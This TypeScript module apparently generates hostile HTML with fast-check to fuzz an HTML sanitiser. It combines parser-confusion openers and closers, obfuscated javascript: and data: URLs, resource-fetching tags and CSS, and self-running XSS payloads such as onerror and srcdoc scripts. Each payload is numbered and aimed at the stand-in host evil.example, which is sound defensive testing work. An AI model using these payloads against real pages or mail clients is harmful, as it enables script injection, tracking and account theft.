import fc from 'fast-check';

// HTML that was written to get out of a sanitiser: something that opens a state of the parser in which what follows is read as something else, something
// that runs or fetches when it is read as HTML after all, and something that ends that state where only one of two readers sees it.

/** Where a parser looks at text, another namespace or an attribute: HTML Living Standard §13.2.6. */
const OPENERS = [
  ...['', '</p>', '</br>', '<p', '<b><p></b>', '<a><a>', '<table>', '<table><tr><td>', '<table><caption>', '<table><colgroup>', '<select>'],
  ...[
    '<select><option>',
    '<form></form><form>',
    '<form><div></form><form>',
    '<frameset>',
    '<button><p>',
    '<!doctype html>',
    '<html><head>',
  ],
  ...[
    '<xmp>',
    '<plaintext>',
    '<textarea>',
    '<title>',
    '<style>',
    '<noscript>',
    '<noscript><p title="</noscript>',
    '<noembed>',
    '<noframes>',
  ],
  ...['<iframe>', '<template>', '<template><s><template>', '<script><!--', '<option><style></option></select>', '<keygen>', '<ruby><rtc>'],
  ...[
    '<svg>',
    '<svg><style>',
    '<svg><title>',
    '<svg><desc>',
    '<svg><foreignObject>',
    '<svg></p><style><a id="</style>',
    '<svg><p><style><!--</style>',
  ],
  ...['<math>', '<math><mi>', '<math><mtext>', '<math><mtext><table><mglyph><style>', '<math><mtext><mglyph><malignmark><style>'],
  ...[
    '<math><annotation-xml encoding="text/html">',
    '<math><annotation-xml><svg><desc>',
    '<form><math><mtext></form><form><mglyph><style></math>',
  ],
  ...[
    '<svg><math><mi></mi><style>',
    '<math><svg><mtext><textarea><path id="</textarea>',
    '<svg><style>&lt;/style&gt;',
    '<math><maction actiontype="x">',
  ],
  ...[
    '<!--',
    '<!-->',
    '<!--->',
    '<!--a--!>',
    '<!--<!--',
    '<![CDATA[',
    '<svg><![CDATA[',
    '<?xml version="1"?><?',
    '<!x "',
    '<!--[if gte mso 9]>',
    '</ ',
  ],
  ...[
    '<a title="',
    "<a title='",
    '<a title=`',
    '<img alt="',
    '<b title="&quot;&gt;',
    '<b title="--&gt;',
    '<i title="</i>',
    '<div style="',
    '<p\u0000',
    '<p/',
  ],
  ...['&lt;', '&#60', '&#x3c;', '&amp;lt;', '\u00ad<', '\u0000<', '<\u0000', '\ufeff', '<%', '\uff1c'],
  ...['<font><font><font>'.repeat(60), '<b><i>'.repeat(200), '<div>'.repeat(600), '<table><tr><td>'.repeat(90), '<svg><desc>'.repeat(300)],
];

/** What ends such a state for one reader and not for another. */
const CLOSERS = [
  ...[
    '',
    '">',
    "'>",
    '`>',
    '-->',
    '--!>',
    ']]>',
    '?>',
    '</p>',
    '</style>',
    '</title>',
    '</textarea>',
    '</noscript>',
    '</xmp>',
    '</template>',
  ],
  ...['</select>', '</svg>', '</math>', '</iframe>', '</noembed>', '</script>', '</mglyph></mtext>', '</table>', '</annotation-xml>'],
  ...['&gt;', '">--&gt;', '</style></svg>', '</title></svg>', '</desc></svg>', '<![endif]-->', '\u0000>', '/>'],
];

/** Addresses that are code, and ways to write them so that a filter reads something else. */
const CODE = [
  ...[
    'javascript:HIT',
    'JaVaScRiPt:HIT',
    ' \u0001javascript:HIT',
    'java\tscript:HIT',
    'java\r\nscript:HIT',
    'javascript&colon;HIT',
    'javascript&#58;HIT',
  ],
  ...[
    '&#106;avascript:HIT',
    '&#x6a&#x61vascript:HIT',
    'java&Tab;script:HIT',
    'java&NewLine;script:HIT',
    'javascript\u0000:HIT',
    'java\u00adscript:HIT',
  ],
  ...[
    'data:text/html,<script>HIT</script>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>',
    'vbscript:HIT',
    'view-source:EVIL',
  ],
  ...[
    'feed:javascript:HIT',
    'blob:EVIL',
    'filesystem:EVIL',
    'jar:EVIL',
    'about:blank',
    '//HOST',
    '\\\\HOST',
    '/\\HOST',
    'https:HOST',
    'http:/HOST',
    'EVIL',
  ],
];

/** Every way a mail may name an address. */
const NAMING = [
  ...[
    '<a href="*">',
    '<a xlink:href="*">',
    '<a ping="*" href="#">',
    '<area href="*">',
    '<img src="*">',
    '<img/src="*"',
    "<img src='*'",
    '<img src=*>',
  ],
  ...[
    '<img srcset="* 1x, * 2x">',
    '<img lowsrc="*" dynsrc="*">',
    '<image href="*">',
    '<image src="*">',
    '<picture><source srcset="*"><img></picture>',
  ],
  ...[
    '<svg><image href="*"/></svg>',
    '<svg><image xlink:href="*"/></svg>',
    '<svg><use href="*#x"/></svg>',
    '<svg><script href="*"/></svg>',
  ],
  ...[
    '<svg><a xlink:href="*"><text>x</text></a></svg>',
    '<svg><a><animate attributeName="href" values="*"/></a></svg>',
    '<svg><feImage href="*"/></svg>',
  ],
  ...[
    '<svg><set attributeName="onload" to="*"/></svg>',
    '<svg><filter id="f"><feImage xlink:href="*"/></filter></svg>',
    '<math href="*"><mi>x</mi></math>',
  ],
  ...[
    '<math><maction xlink:href="*">x</maction></math>',
    '<iframe src="*"></iframe>',
    '<frameset><frame src="*"></frameset>',
    '<object data="*"></object>',
  ],
  ...[
    '<object><param name="src" value="*"></object>',
    '<embed src="*">',
    '<applet codebase="*" code="x"></applet>',
    '<portal src="*"></portal>',
  ],
  ...[
    '<video src="*" poster="*" autoplay></video>',
    '<video><track src="*" default></video>',
    '<audio src="*" autoplay></audio>',
    '<bgsound src="*">',
  ],
  ...[
    '<body background="*">',
    '<table background="*"><tr><td background="*">x</td></tr></table>',
    '<input type="image" src="*">',
    '<base href="*">',
  ],
  ...[
    '<link rel="stylesheet" href="*">',
    '<link rel="prefetch" href="*">',
    '<link rel="preload" as="image" href="*">',
    '<link rel="manifest" href="*">',
  ],
  ...[
    '<link rel="dns-prefetch" href="*">',
    '<meta http-equiv="refresh" content="0;url=*">',
    '<meta http-equiv="Link" content="<*>; rel=stylesheet">',
  ],
  ...[
    '<meta http-equiv="set-cookie" content="a=b">',
    '<form action="*"><button autofocus>x</button></form>',
    '<button form="f" formaction="*">x</button>',
  ],
  ...[
    '<isindex action="*">',
    '<script src="*"></script>',
    '<script type="module">import "*"</script>',
    '<style>@import "*";</style>',
    '<style>*{background:url(*)}</style>',
  ],
  ...[
    '<style>@font-face{font-family:x;src:url(*)}*{font-family:x}</style>',
    '<blockquote cite="*">',
    '<q cite="*">',
    '<html manifest="*">',
    '<head profile="*">',
  ],
  ...[
    '<img usemap="#m" src="x"><map name="m"><area href="*"></map>',
    '<a href="#" attributionsrc="*">',
    '<img src="x" attributionsrc="*">',
    '<ins cite="*">',
  ],
];

/** Styles that fetch, run or place something over the desk. `*` is the address. */
const STYLES = [
  ...[
    'background:url(*)',
    'background:u\\72l(*)',
    'background:\\75\\72\\6c(*)',
    'background/**/:url(*)',
    'background:url("*"',
    'background-image:image-set("*" 1x)',
  ],
  ...[
    'background:-webkit-image-set(url(*) 1x)',
    'background:cross-fade(url(*),url(*),50%)',
    'list-style-image:url(*)',
    'list-style:url(*)',
    'cursor:url(*),auto',
  ],
  ...[
    'border-image:url(*) 30',
    'mask:url(*)',
    '-webkit-mask-image:url(*)',
    'filter:url(*#x)',
    'clip-path:url(*#x)',
    'shape-outside:url(*)',
    'content:url(*)',
  ],
  ...[
    'behavior:url(*)',
    '-moz-binding:url(*#x)',
    'width:expression(HIT)',
    'width:exp/**/ression(HIT)',
    'background:var(--x,url(*))',
    '--x:url(*);background:var(--x)',
  ],
  ...[
    'color:red;}*{background:url(*)}',
    'font-family:"</style><img src=* onerror=HIT>"',
    'position:fixed;inset:0;z-index:9',
    'background:url(&quot;*&quot;)',
  ],
  ...[
    'font:12px url(*)',
    'background:url\u0000(*)',
    'background:red\nurl(*)',
    'background:image-set("*" 1x)',
    "background:image-set('*' 1x)",
    'background:red\u2028url(*)',
    'background:element(#a)',
    'offset-path:url(*)',
    'background:src("*")',
    'color:attr(title url,url(*))',
  ],
];

/** Things that run by themselves. */
const RUNNING = [
  ...[
    '<script>HIT</script>',
    '<SCRIPT\n>HIT</SCRIPT >',
    '<script/x>HIT</script>',
    '<script>HIT',
    '<scr<script>ipt>HIT</scr</script>ipt>',
    '<svg><script>HIT</script></svg>',
  ],
  ...[
    '<svg><script>&#72IT</script></svg>',
    '<svg><script><![CDATA[HIT]]></script></svg>',
    '<img src=x onerror=HIT>',
    '<img src=x onerror="HIT">',
    '<img/src=x/onerror=HIT//',
  ],
  ...[
    '<img src=x:x onerror\n=HIT>',
    '<img src=x ONERROR=HIT>',
    '<img src=x onerror&#61;HIT>',
    '<img \u0000src=x onerror=HIT>',
    '<<img src=x onerror=HIT>',
    '<svg onload=HIT>',
  ],
  ...[
    '<svg/onload=HIT>',
    '<svg><animate onbegin=HIT attributeName=x dur=1s>',
    '<svg><set onbegin=HIT attributeName=x>',
    '<svg><discard onbegin=HIT>',
    '<body onload=HIT>',
  ],
  ...[
    '<body onpageshow=HIT>',
    '<details open ontoggle=HIT>x</details>',
    '<input autofocus onfocus=HIT>',
    '<select autofocus onfocus=HIT>',
    '<textarea autofocus onfocus=HIT>',
  ],
  ...[
    '<a href=# autofocus onfocus=HIT tabindex=1>x</a>',
    '<p contenteditable autofocus onfocus=HIT>',
    '<video><source onerror=HIT></video>',
    '<audio src=x onerror=HIT></audio>',
  ],
  ...[
    '<video src=x onloadstart=HIT></video>',
    '<object data=x onerror=HIT></object>',
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<iframe onload=HIT></iframe>',
  ],
  ...[
    '<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>',
    '<embed onload=HIT src=x>',
    '<style onload=HIT></style>',
    '<link rel=stylesheet href=x onerror=HIT>',
  ],
  ...[
    '<marquee onstart=HIT>x</marquee>',
    '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=HIT>',
    '<meter onmouseover=HIT>x</meter>',
    '<x onclick=HIT>x</x>',
  ],
  ...[
    '<template shadowrootmode=open><img src=x onerror=HIT></template>',
    '<div><template shadowrootmode="open"><script>HIT</script></template></div>',
  ],
  ...[
    '<math><mtext><script>HIT</script></mtext></math>',
    '<p title="<img src=x onerror=HIT>">',
    '<p title="</title><img src=x onerror=HIT>">',
    '<a href="https://x.example/?a=<img src=x onerror=HIT>">',
  ],
  ...[
    '<img alt="--><script>HIT</script>">',
    '<p align="</noscript><script>HIT</script>">',
    '<a title="</style><img src=x onerror=HIT>" href="mailto:x"></a>',
    '<dialog open><form method=dialog>',
  ],
  ...[
    '<form id=hit><input name=attributes><input name=parentNode></form>',
    '<img name=getElementById><img id=body name=cookie>',
    '<a id=frames></a><a id=frames name=hit>',
    '<iframe name=hit></iframe>',
  ],
  ...[
    '<p id=app class=bar data-testid=x role=alert aria-live=assertive slot=x is=x part=x nonce=x>',
    '<p popover id=p></p><button popovertarget=p>x',
    '<p draggable=true ondragstart=HIT>',
  ],
];

const withAddress = NAMING.flatMap((naming, at) =>
  CODE.filter((_one, nth) => nth % 4 === at % 4).map((code) => naming.replaceAll('*', code)),
);
const withStyle = STYLES.flatMap((style) =>
  [`<p style="${style}">x</p>`, `<p style='${style}'>x</p>`].map((html) => html.replaceAll('*', 'EVIL')),
);

/** Everything that must come to nothing, each alone. */
export const PLAIN_PAYLOADS: readonly string[] = [
  ...RUNNING,
  ...NAMING.map((naming) => naming.replaceAll('*', 'EVIL')),
  ...withAddress,
  ...withStyle,
];

/** The host none of them may reach. */
export const EVIL_HOST = 'evil.example';

/** Marks what a payload would run and fetch with its number, so that the culprit is named. */
export function numbered(payload: string, number: number): string {
  const host = `${EVIL_HOST}/${number}`;
  return payload.replaceAll('HIT', `top.hits.push(${number})`).replaceAll('EVIL', `https://${host}`).replaceAll('HOST', host);
}

/** One payload inside states of the parser, opened and closed, perhaps twice. */
const payload = fc
  .tuple(
    ...[fc.array(fc.constantFrom(...OPENERS), { minLength: 1, maxLength: 3 }), fc.constantFrom(...CLOSERS)],
    fc.constantFrom(...PLAIN_PAYLOADS),
    fc.array(fc.constantFrom(...CLOSERS), { maxLength: 2 }),
    fc.constantFrom('', '', ...PLAIN_PAYLOADS),
  )
  .map(([openers, closer, inner, ends, second]) => `<p>a</p>${openers.join('')}${closer}${inner}${ends.join('')}${second}`);

/** `count` payloads, the same for the same seed, numbered by their place. */
export function hostileHtml(count: number, seed: number): string[] {
  return fc.sample(payload, { numRuns: count, seed }).map(numbered);
}
